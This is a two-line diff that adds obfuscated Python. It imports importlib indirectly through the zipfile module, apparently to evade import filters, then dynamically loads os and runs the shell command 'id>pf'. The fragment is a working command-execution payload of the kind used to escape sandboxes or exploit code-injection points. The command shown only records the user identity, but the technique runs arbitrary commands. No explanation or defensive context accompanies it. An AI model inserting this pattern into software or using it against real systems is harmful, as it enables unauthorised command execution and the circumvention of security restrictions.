@@ -1,0 +1,2 @@
+from zipfile import importlib as i
+i.import_module("os").system("id>pf")
